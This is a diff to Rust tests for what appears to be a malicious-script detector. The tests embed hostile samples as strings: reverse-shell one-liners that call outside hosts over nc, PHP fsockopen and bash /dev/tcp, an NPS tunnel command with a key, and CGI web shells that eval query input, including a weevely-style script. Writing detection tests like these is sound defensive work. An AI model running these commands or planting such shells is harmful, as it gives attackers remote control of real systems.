@@ -18,6 +18,11 @@ fn back_connect_shells_in_each_language_are_found() {
         "#!/bin/sh\nrm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.9 4444 > /tmp/f\n";
     // fresh111's `a.sh`: PHP's own socket handed to bash as its input and output.
     let php = "php -r '$sock=fsockopen(\"0.tcp.ap.ngrok.io\",18251);popen(\"bash <&3 >&3 2>&3\", \"r\");'\n";
+    // Regression: fresh178's PANIX cleanup scripts list the lines they remove, with no host.
+    let revert = "#!/bin/bash\nfor p in \"bash -i >& /dev/tcp/\" \"nohup bash -i > /dev/tcp/\"; do\n  crontab -l | grep -v \"$p\" | crontab -\ndone\n";
+    assert!(!whys(revert).contains(&Why::RemoteShell), "{:?}", whys(revert));
+    let by_vars = "#!/bin/bash\nbash -i >& /dev/tcp/$IP/$PORT 0>&1\n";
+    assert_eq!(whys(by_vars), [Why::RemoteShell]);
     // Regression: fresh148's `u.sh` starts NPS's tunnel client with its server and key.
     let tunnel = "/dev/shm/npc -server=198.51.100.7:443 -vkey=g6jpzgziodoyzb7u -type=tcp &\n";
     for src in [perl, python, shell, netcat, php, tunnel] {
@@ -748,6 +753,9 @@ fn a_shell_cgi_evaluating_a_posted_field_is_a_shell() {
     let cgi = "#!/bin/bash\necho -e \"Content-type: text/html\\n\\n\"\nfunction post(){ [ -z \"$CONTENT_LENGTH\" ] && return; read -N $CONTENT_LENGTH Q; }\n\
                q=\"${QUERY_STRING}&\"\npost\nquery=$(echo $cmd | base64 --decode)\necho -e \"<pre>\\c\"\neval ${query}\n";
     assert_eq!(whys(cgi), [Why::ShellFromInput]);
+    // Regression: fresh178's weevely `cgi.sh` cuts `c=` out of the query.
+    let weevely = "#!/bin/bash\necho -ne \"Content-Type: text/html\\n\\n\"\nb=$(echo \"$QUERY_STRING\" | sed -n 's/^.*c=\\([^&]*\\).*$/\\1/p')\neval $b\n";
+    assert_eq!(whys(weevely), [Why::ShellFromInput]);
     // A CGI that only prints its query back.
     let echo = "#!/bin/bash\necho \"Content-type: text/plain\"\necho\necho \"$QUERY_STRING $CONTENT_LENGTH\"\n";
     assert!(whys(echo).is_empty(), "{:?}", whys(echo));
